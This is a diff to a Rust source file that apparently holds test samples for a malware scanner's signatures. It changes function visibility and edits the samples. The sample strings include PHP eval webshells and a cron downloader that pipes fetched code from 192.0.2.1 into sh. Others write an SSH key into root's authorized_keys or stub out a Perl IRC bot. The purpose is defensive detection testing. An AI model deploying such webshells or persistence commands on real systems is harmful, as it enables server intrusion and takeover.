@@ -2,7 +2,7 @@
 
 use crate::witness::{Witness, text};
 
-pub fn webshells() -> Vec<Witness> {
+pub(crate) fn webshells() -> Vec<Witness> {
     vec![
         text("Candor.PHP.Webshell.EvalRequest-1", "a.php", "<?php @ev¬al($_POST['c']); ?>"),
         text("Candor.PHP.Webshell.AssertRequest-1", "a.php", "<?php @ass¬ert($_REQUEST['c']); ?>"),
@@ -57,7 +57,7 @@ pub fn webshells() -> Vec<Witness> {
     ]
 }
 
-pub fn droppers() -> Vec<Witness> {
+pub(crate) fn droppers() -> Vec<Witness> {
     vec![
         text(
             "Candor.Shell.Downloader.TmpChain-1",
@@ -82,12 +82,12 @@ pub fn droppers() -> Vec<Witness> {
         text(
             "Candor.Shell.Persistence.CronPipe-1",
             "root",
-            "*/5 * * * * curl -fsSL http://192.0.2.1/a ¬|| wget -q -O- http://192.0.2.1/a | s¬h\n",
+            "*/5 * * * * curl -fsSL http://192.0.2.1/a ¬|| wg¬et -q -O- http://192.0.2.1/a | s¬h\n",
         ),
         text(
             "Candor.Shell.Persistence.SshKey-1",
             "a.sh",
-            "#!/bin/sh\necho ssh-rsa AAAA¬B3NzaC1yc2E > /root/.ssh/authorized_keys\nchattr +ia x\ncurl http://192.0.2.1/a\n",
+            "#!/bin/sh\necho ssh-rsa AAAA¬B3NzaC1yc2E > /root/.ssh/authorized_keys\nchattr +i¬ x\ncurl http://192.0.2.1/a\n",
         ),
         text(
             "Candor.Shell.ReverseShell.DevTcp-1",
@@ -139,13 +139,13 @@ pub fn droppers() -> Vec<Witness> {
         text(
             "Candor.Perl.Bot.Shellbot-1",
             "a.pl",
-            "#!/usr/bin/perl\nmy @a¬dms=(\"x\"); my $serv¬idor='192.0.2.1';\nsendraw(\"PRIVMSG x\"); sub tcpflooder {}\n",
+            "#!/usr/bin/perl\nm¬y @adms=(\"x\"); my $serv¬idor='192.0.2.1';\nsendraw(\"PRIVMSG x\"); sub tcpflooder {}\n",
         ),
     ]
 }
 
 /// Other ways to write the same.
-pub fn variants() -> Vec<(&'static str, &'static str)> {
+pub(crate) fn variants() -> Vec<(&'static str, &'static str)> {
     vec![
         ("Candor.PHP.Webshell.EvalRequest-1", "GIF89a;\n<?php EV¬AL ( $_GET[c]);"),
         ("Candor.PHP.Webshell.EvalRequest-1", "<?=@ev¬al(@$_COOKIE[c]);"),
